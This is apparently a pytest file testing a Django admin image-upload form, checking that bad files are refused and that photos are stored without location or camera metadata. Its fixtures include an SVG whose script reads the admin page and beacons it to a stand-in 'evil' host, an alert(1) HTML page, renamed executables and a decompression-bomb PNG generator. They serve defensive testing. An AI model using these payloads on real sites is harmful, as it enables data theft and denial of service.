"""Uploading images through the media library's own admin form: good files are stored as
pixels only (no location, no camera details), bad ones are refused with a message saying what
was found and what is accepted, and a refused upload leaves nothing behind."""

import io
import struct
import zlib
from pathlib import Path

import PIL.Image
import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags

from conditions import images
from conditions.models import Image, Rendition
from neckinfo.uploads import BoundedTemporaryFileUploadHandler
from tests.factories import picture_bytes

pytestmark = pytest.mark.django_db

ADD_URL = reverse("admin:conditions_image_add")


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    """An empty media folder for each test, to see exactly what an upload stored."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def upload(client, content: bytes, name: str = "diagram.jpg", **fields):
    data = {
        "alt_text": "Diagram of the neck from the side",
        "caption": "",
        "credit": "",
        "licence": "",
        "focal_x": "",
        "focal_y": "",
        **fields,
        "upload": SimpleUploadedFile(name, content),
    }
    return client.post(ADD_URL, data)


def stored_files(media: Path) -> list[Path]:
    return [path for path in media.rglob("*") if path.is_file()] if media.exists() else []


def refusal(response) -> str:
    assert response.status_code == 200, "the form should come back with the error"
    errors = response.context["adminform"].form.errors
    return " ".join(str(message) for messages in errors.values() for message in messages)


# Bad files. Each is refused with a message, and nothing is stored.


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _huge_png(width: int, height: int) -> bytes:
    """A real 1-bit PNG of `width` × `height` white pixels: a few hundred KB that would take
    gigabytes to open (a decompression bomb)."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    chunks = []
    rows_at_once = 1000
    for _ in range(height // rows_at_once):
        chunks.append(compressor.compress(row * rows_at_once))
    chunks.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(chunks))
        + _png_chunk(b"IEND", b"")
    )


def _animated(format: str) -> bytes:
    frames = [PIL.Image.new("RGB", (60, 40), colour) for colour in ("red", "blue", "green")]
    output = io.BytesIO()
    frames[0].save(output, format, save_all=True, append_images=frames[1:], duration=100)
    return output.getvalue()


SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
<script>fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>
<circle cx="50" cy="50" r="40"/></svg>"""


BAD_FILES = {
    "renamed Windows program": (b"MZ\x90\x00\x03" + b"\x00" * 2000, "photo.jpg",
                                "a Windows program"),
    "renamed Linux program": (b"\x7fELF\x02\x01\x01" + b"\x00" * 2000, "photo.png",
                              "a program"),
    "SVG with a script": (SVG_WITH_SCRIPT, "diagram.png", "an SVG drawing"),
    "truncated JPEG": (picture_bytes(600, 400, "JPEG")[:3000], "cut.jpg", "damaged or cut short"),
    "truncated PNG": (picture_bytes(600, 400, "PNG")[:800], "cut.png", "damaged or cut short"),
    "30,000 × 30,000 PNG": (_huge_png(30_000, 30_000), "bomb.png", "too many pixels"),
    "48-megapixel PNG": (_huge_png(8_000, 6_000), "big.png", "8,000 × 6,000 pixels"),
    "animated GIF": (_animated("GIF"), "moving.gif", "GIF image"),
    "animated PNG": (_animated("PNG"), "moving.png", "animated image (3 frames)"),
    "animated WebP": (_animated("WEBP"), "moving.webp", "animated image (3 frames)"),
    "TIFF": (picture_bytes(100, 100, "TIFF"), "scan.tif", "TIFF image"),
    "BMP": (picture_bytes(100, 100, "BMP"), "paint.bmp", "BMP"),
    "PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n", "leaflet.jpg", "a PDF document"),
    "web page": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "page.png",
                 "a web page"),
    "zero bytes": (b"", "empty.jpg", "empty (0 bytes)"),
    "huge file": (b"\xff\xd8\xff\xe0" + bytes(11 * 1024 * 1024), "huge.jpg",
                  "an image may be at most 10.0 MB"),
}  # fmt: skip


@pytest.mark.parametrize("kind", BAD_FILES)
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_saved(
    editor_client, media, kind
):
    content, name, explanation = BAD_FILES[kind]

    response = upload(editor_client, content, name, caption="My caption, kept")

    message = refusal(response)
    assert explanation in message
    if kind != "zero bytes" and kind != "huge file" and "damaged" not in explanation:
        assert "Upload a JPEG, PNG or WebP image" in message or "megapixels" in message
    # What the editor typed is still on the form.
    assert response.context["adminform"].form["caption"].value() == "My caption, kept"
    assert not Image.objects.exists()
    assert stored_files(media) == []


def test_a_png_with_a_broken_checksum_is_refused(editor_client, media):
    content = bytearray(picture_bytes(300, 200, "PNG"))
    content[-20] ^= 0xFF  # inside the image data: its CRC no longer matches

    message = refusal(upload(editor_client, bytes(content), "broken.png"))

    assert "damaged or cut short" in message
    assert stored_files(media) == []


# Good files.


def _photo_with_location() -> bytes:
    """A camera JPEG, taken sideways (orientation 6), carrying GPS coordinates, camera make
    and a comment."""
    picture = PIL.Image.new("RGB", (400, 300), (180, 120, 90))
    picture.paste((20, 60, 200), (0, 0, 100, 300))  # a blue band down the left edge
    exif = PIL.Image.Exif()
    exif[ExifTags.Base.Make] = "SecretCam"
    exif[ExifTags.Base.Orientation] = 6
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 26.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 39.0)
    output = io.BytesIO()
    picture.save(output, "JPEG", exif=exif.tobytes(), comment=b"home address here")
    return output.getvalue()


def test_a_photo_is_stored_upright_with_its_location_and_camera_details_removed(
    editor_client, editor, media, django_capture_on_commit_callbacks
):
    original = _photo_with_location()
    assert PIL.Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)

    with django_capture_on_commit_callbacks(execute=True):
        response = upload(editor_client, original, "IMG_0001.JPG")

    assert response.status_code == 302
    image = Image.objects.get()
    assert (image.width, image.height) == (300, 400)  # turned the right way up
    assert image.uploaded_by == editor
    stored = default_storage.open(image.file.name).read()
    assert b"SecretCam" not in stored and b"home address" not in stored
    assert b"Exif" not in stored
    picture = PIL.Image.open(io.BytesIO(stored))
    assert picture.format == "JPEG"
    assert not picture.getexif()
    assert "exif" not in picture.info and "icc_profile" not in picture.info
    # The blue band, on the left of the sideways photo, is now along the top.
    red, green, blue = picture.convert("RGB").getpixel((150, 10))
    assert blue > 150 and red < 80
    # Its renditions were made once the upload was committed, and carry nothing either.
    renditions = Rendition.objects.filter(image=image)
    assert {r.format for r in renditions} == {"avif", "webp", "jpeg"}
    for rendition in renditions:
        assert b"SecretCam" not in default_storage.open(rendition.file.name).read()


def test_a_cmyk_jpeg_is_stored_as_rgb(editor_client, media):
    response = upload(editor_client, picture_bytes(200, 100, "JPEG", mode="CMYK"), "print.jpg")

    assert response.status_code == 302
    image = Image.objects.get()
    assert PIL.Image.open(default_storage.open(image.file.name)).mode == "RGB"


@pytest.mark.parametrize("format", ["PNG", "WEBP", "JPEG"])
def test_png_webp_and_jpeg_are_accepted_whatever_the_file_is_called(reviewer_client, media, format):
    response = upload(reviewer_client, picture_bytes(640, 480, format), "no-extension")

    assert response.status_code == 302
    image = Image.objects.get()
    assert image.file.name.endswith({"PNG": ".png", "WEBP": ".webp", "JPEG": ".jpg"}[format])
    assert (image.width, image.height) == (640, 480)
    assert len(image.file_hash) == 64


def test_alt_text_is_required_unless_the_image_is_decorative(editor_client, media):
    response = upload(editor_client, picture_bytes(), "diagram.png", alt_text="   ")

    assert "Describe what the image shows" in refusal(response)
    assert not Image.objects.exists()
    assert stored_files(media) == []

    response = upload(editor_client, picture_bytes(), "swirl.png", alt_text="", decorative="on")
    assert response.status_code == 302
    assert Image.objects.get().decorative


def test_adding_an_image_needs_a_file(editor_client, media):
    response = editor_client.post(ADD_URL, {"alt_text": "Diagram"})

    assert "Choose an image file" in refusal(response)
    assert not Image.objects.exists()


def test_a_focal_point_outside_the_image_is_refused(editor_client, media):
    response = upload(editor_client, picture_bytes(), focal_x="1.5", focal_y="-0.1")

    errors = response.context["adminform"].form.errors
    assert set(errors) == {"focal_x", "focal_y"}
    assert stored_files(media) == []


def test_readers_cannot_upload(reader, media):
    response = upload(reader, picture_bytes())

    assert response.status_code == 302 and "/login/" in response["Location"]
    assert not Image.objects.exists()


def test_of_a_huge_upload_no_more_than_the_limit_is_written_to_disk(settings):
    settings.IMAGE_UPLOAD_MAX_BYTES = 1024 * 1024
    handler = BoundedTemporaryFileUploadHandler()
    handler.new_file("upload", "huge.jpg", "image/jpeg", None)
    chunk = b"\xff" * 64 * 1024
    received = 0
    for _ in range(100):  # 6.25 MB, in the parser's chunks
        assert handler.receive_data_chunk(chunk, received) is None
        received += len(chunk)

    upload = handler.file_complete(received)

    written = Path(upload.temporary_file_path()).stat().st_size
    assert written == settings.IMAGE_UPLOAD_MAX_BYTES + 1
    assert upload.size == received  # so the refusal says how big it really was
    with pytest.raises(ValidationError, match="The file is 6.2 MB; an image may be at most 1.0"):
        images.prepare_upload(upload)
    upload.close()


def test_a_huge_upload_through_the_form_is_refused_saying_how_big_it_was(editor_client, media):
    content = b"\xff\xd8\xff\xe0" + bytes(25 * 1024 * 1024)

    message = refusal(upload(editor_client, content, "scan.jpg"))

    assert "The file is 25.0 MB; an image may be at most 10.0 MB" in message
    assert stored_files(media) == []
